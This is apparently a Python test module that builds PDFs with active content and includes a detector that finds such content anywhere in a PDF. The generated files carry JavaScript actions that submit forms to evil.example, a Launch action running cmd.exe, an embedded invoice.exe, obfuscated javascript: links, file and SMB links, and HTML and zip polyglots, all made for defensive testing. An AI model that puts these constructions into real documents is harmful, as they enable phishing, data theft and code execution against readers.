"""PDFs that carry active content or bytes of another format, made on the fly from a real
two-page paper, and the detector that finds active content wherever it sits in a PDF."""

from __future__ import annotations

import io
import re

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.meetings.paper_factories import make_pdf
from tests.security.hostile_files import html_page, pdf_bytes, small_zip, windows_program

# ---------------------------------------------------------------------------
# Active content, added to a real two-page paper
# ---------------------------------------------------------------------------
PAPER_TEXT = "Safeguarding report"


def _with(build) -> bytes:
    with pikepdf.open(io.BytesIO(make_pdf(pages=2, text=PAPER_TEXT))) as pdf:
        build(pdf)
        return pdf_bytes(pdf)


def _js(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _link(pdf, action: Dictionary) -> Dictionary:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620], A=action)
    return pdf.make_indirect(link)


def with_javascript() -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('opened');"))
        script = pdf.make_indirect(_js("this.submitForm('https://evil.example/');"))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
        page = pdf.pages[0]
        page.obj.Annots = Array(
            [
                _link(pdf, _js("app.launchURL('https://evil.example/');")),
                # A web link is kept, but the script chained after it is not.
                _link(
                    pdf,
                    Dictionary(
                        S=Name.URI, URI=String("https://www.gov.uk/"), Next=_js("app.alert(2)")
                    ),
                ),
            ]
        )

    return _with(build)


def with_launch_action() -> bytes:
    def build(pdf):
        launch = Dictionary(
            Type=Name.Action,
            S=Name.Launch,
            F=String("cmd.exe"),
            Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe")),
        )
        pdf.Root.OpenAction = pdf.make_indirect(launch)
        pdf.pages[1].obj.Annots = Array(
            [_link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf")))]
        )

    return _with(build)


def with_event_actions() -> bytes:
    def build(pdf):
        pdf.Root.AA = Dictionary(WC=_js("app.alert('closing')"))
        pdf.pages[0].obj.AA = Dictionary(O=_js("app.alert('page opened')"))
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Btn,
                T=String("send"),
                Rect=[72, 500, 200, 520],
                A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
                AA=Dictionary(K=_js("event.value = 1")),
            )
        )
        pdf.pages[0].obj.Annots = Array([field])
        xfa = pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>")
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa)

    return _with(build)


def with_embedded_file() -> bytes:
    def build(pdf):
        payload = pdf.make_stream(windows_program())
        payload.Type = Name.EmbeddedFile
        spec = pdf.make_indirect(
            Dictionary(
                Type=Name.Filespec, F=String("invoice.exe"), UF=String("invoice.exe"),
                EF=Dictionary(F=payload),
            )
        )  # fmt: skip
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), spec])))
        pdf.Root.OpenAction = Dictionary(
            S=Name.GoToE, NewWindow=True, T=Dictionary(R=Name.C, N=String("x"))
        )
        pdf.pages[0].obj.Annots = Array(
            [
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[72, 400, 90, 420],
                        FS=spec, Contents=String("Open me"),
                    )
                )
            ]
        )  # fmt: skip

    return _with(build)


def _widget(pdf, parent: Dictionary) -> Dictionary:
    widget = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, Rect=[72, 500, 300, 520], F=4, Parent=parent
    )
    return pdf.make_indirect(widget)


def with_script_in_a_fields_parent() -> bytes:
    """A text box whose field, reached only through its widget's /Parent (the form's
    /Fields leaves it out), runs a script at each keystroke."""

    def build(pdf):
        field = pdf.make_indirect(
            Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(K=_js("app.alert('typed')")))
        )
        widget = _widget(pdf, parent=field)
        field.Kids = Array([widget])
        pdf.pages[0].obj.Annots = Array([widget])
        pdf.Root.AcroForm = Dictionary(Fields=Array([]))

    return _with(build)


def with_script_two_parents_up() -> bytes:
    """A widget whose field's own parent, two /Parent steps up, runs a script when the field
    gains focus."""

    def build(pdf):
        top = pdf.make_indirect(
            Dictionary(FT=Name.Tx, T=String("contact"), AA=Dictionary(Fo=_js("app.alert(1)")))
        )
        middle = pdf.make_indirect(Dictionary(T=String("name"), Parent=top))
        top.Kids = Array([middle])
        widget = _widget(pdf, parent=middle)
        middle.Kids = Array([widget])
        pdf.pages[1].obj.Annots = Array([widget])
        pdf.Root.AcroForm = Dictionary(Fields=Array([]))

    return _with(build)


def with_script_in_a_bookmarks_parent() -> bytes:
    """A bookmark whose /Parent, not the outline the catalogue names, runs a script when
    chosen."""

    def build(pdf):
        hidden = pdf.make_indirect(
            Dictionary(Title=String("Contents"), A=_js("app.alert('bookmark')"), Count=1)
        )
        bookmark = pdf.make_indirect(
            Dictionary(
                Title=String("Page 2"), Parent=hidden, Dest=Array([pdf.pages[1].obj, Name.Fit])
            )
        )
        hidden.First = hidden.Last = bookmark
        pdf.Root.Outlines = pdf.make_indirect(
            Dictionary(Type=Name.Outlines, First=bookmark, Last=bookmark, Count=1)
        )

    return _with(build)


def with_script_in_an_annotation_stream() -> bytes:
    """A link annotation written as a stream object, whose action runs a script."""

    def build(pdf):
        link = pdf.make_stream(
            b"", Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620], A=_js("app.alert(1)")
        )
        pdf.pages[0].obj.Annots = Array([link])

    return _with(build)


def _uri(address: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address))


def _hex_strings(data: bytes, placeholders: dict[str, bytes]) -> bytes:
    """Write each placeholder string as a hex string of `placeholders[...]` instead: the
    token is the same length, so every offset in the file still holds."""
    for placeholder, value in placeholders.items():
        literal = f"({placeholder})".encode()
        hex_string = b"<" + value.hex().encode() + b">"
        assert len(literal) == len(hex_string) and data.count(literal) == 1
        data = data.replace(literal, hex_string)
    return data


# What a browser reads as javascript: once it has dropped the spaces and control characters
# around an address and the tabs and line breaks within it.
SCRIPT_ADDRESSES = [
    "javascript:app.alert(1)",
    " JaVaScRiPt:app.alert(2)",
    "\tjavascript:app.alert(3)",
    "\r\n java\nscr\tipt:app.alert(4)",
    # Not in PDFDocEncoding, so written in UTF-16, which qpdf writes as a hex string.
    "\x00\x1fjavascript:app.alert('\u2603')",
]
HEX_SCRIPT_ADDRESS = b"JAVASCRIPT:app.alert(6)"
HEX_PLACEHOLDER = "H" * len(HEX_SCRIPT_ADDRESS) * 2
WEB_AND_EMAIL_ADDRESSES = [
    "https://www.gov.uk/",
    "HTTP://www.kscb.org.uk/procedures",
    "mailto:board.manager@example.org",
]


def with_script_links() -> bytes:
    """Links whose addresses run a script, among links to web and email addresses (last)."""

    def build(pdf):
        addresses = [*SCRIPT_ADDRESSES, HEX_PLACEHOLDER, *WEB_AND_EMAIL_ADDRESSES]
        pdf.pages[0].obj.Annots = Array([_link(pdf, _uri(address)) for address in addresses])

    return _hex_strings(_with(build), {HEX_PLACEHOLDER: HEX_SCRIPT_ADDRESS})


def with_links_to_other_things() -> bytes:
    """Links to a program on the reader's own machine, a file share, a page made of the
    address itself, and an address relative to one the PDF sets."""

    def build(pdf):
        pdf.Root.URI = Dictionary(Base=String("file:///C:/Windows/System32/"))
        addresses = [
            "file:///C:/Windows/System32/calc.exe",
            "smb://evil.example/share/invoice.pdf",
            "data:text/html,<script>alert(document.domain)</script>",
            "calc.exe",
        ]
        pdf.pages[1].obj.Annots = Array([_link(pdf, _uri(address)) for address in addresses])

    return _with(build)


def with_form_bookmarks_and_links() -> bytes:
    """An ordinary paper: a form whose fields nest, bookmarks, links to a web page, an email
    address and another page. Nothing in it runs."""

    def build(pdf):
        first, second = (page.obj for page in pdf.pages)
        contact = pdf.make_indirect(Dictionary(T=String("contact")))
        name = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("name"), Parent=contact))
        contact.Kids = Array([name])
        widget = _widget(pdf, parent=name)
        name.Kids = Array([widget])
        pdf.Root.AcroForm = Dictionary(Fields=Array([contact]), DA=String("/Helv 0 Tf 0 g"))
        first.Annots = Array(
            [
                widget,
                _link(pdf, _uri("https://www.gov.uk/")),
                _link(pdf, _uri("mailto:board.manager@example.org")),
                _link(pdf, Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]))),
            ]
        )
        outline = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
        bookmarks = [
            pdf.make_indirect(
                Dictionary(Title=String(f"Page {n}"), Parent=outline, Dest=Array([page, Name.Fit]))
            )
            for n, page in enumerate((first, second), start=1)
        ]
        bookmarks[0].Next, bookmarks[1].Prev = bookmarks[1], bookmarks[0]
        outline.First, outline.Last = bookmarks
        pdf.Root.Outlines = outline

    return _with(build)


def html_polyglot() -> bytes:
    """A web page and a PDF at once: readers skip up to a kilobyte before the PDF header."""
    return html_page() + make_pdf(pages=2, text=PAPER_TEXT)


def zip_polyglot() -> bytes:
    """A PDF and a zip at once: zip readers start from the end of the file."""
    return make_pdf(pages=2, text=PAPER_TEXT) + small_zip()


# ---------------------------------------------------------------------------
# Finding active content in a PDF
# ---------------------------------------------------------------------------
RISKY_ACTIONS = {"/JavaScript", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData"}
WEB_AND_EMAIL = {"http", "https", "mailto"}
# A browser drops spaces and control characters around an address and tabs and line breaks
# within it before it reads the scheme: https://url.spec.whatwg.org/#concept-basic-url-parser
AROUND_AN_ADDRESS = "".join(chr(code) for code in range(0x21))
WITHIN_AN_ADDRESS = re.compile("[\t\n\r]")
SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")


def link_scheme(address) -> str:
    """The scheme a browser would read in a link's address, or why there is none."""
    if not isinstance(address, String):
        return "an address that is not text"
    text = WITHIN_AN_ADDRESS.sub("", str(address).strip(AROUND_AN_ADDRESS))
    scheme = SCHEME.match(text)
    return scheme.group(1).lower() if scheme else "an address with no scheme"


def _direct(value) -> bool:
    # Indirect objects are each visited from pdf.objects; pikepdf gives scalars as Python's.
    return isinstance(value, Array | Dictionary) and not value.is_indirect


def active_content(data: bytes) -> list[str]:
    """Everything in a PDF that could run, launch, send or carry a file, wherever it is."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root = pdf.Root
        if "/OpenAction" in root and not isinstance(root.OpenAction, Array):
            found.append("OpenAction")
        names = root.get("/Names") or {}
        found += [f"Names {key}" for key in ("/JavaScript", "/EmbeddedFiles") if key in names]
        pending = [pdf.trailer, *pdf.objects]
        while pending:
            obj = pending.pop()
            if isinstance(obj, Array):
                pending += [value for value in obj if _direct(value)]
                continue
            if not isinstance(obj, Dictionary | Stream):
                continue
            for key in ("/JS", "/AA", "/EF", "/XFA", "/RichMediaContent"):
                if key in obj:
                    found.append(key)
            if str(obj.get("/S", "")) in RISKY_ACTIONS:
                found.append(f"action {obj.S}")
            if obj.get("/S") == Name.URI and link_scheme(obj.get("/URI")) not in WEB_AND_EMAIL:
                found.append(f"link to {link_scheme(obj.get('/URI'))}")
            if obj.get("/Subtype") == Name.FileAttachment:
                found.append("file attachment")
            if obj.get("/Type") == Name.EmbeddedFile:
                found.append("embedded file")
            pending += [value for value in obj.values() if _direct(value)]
    return found
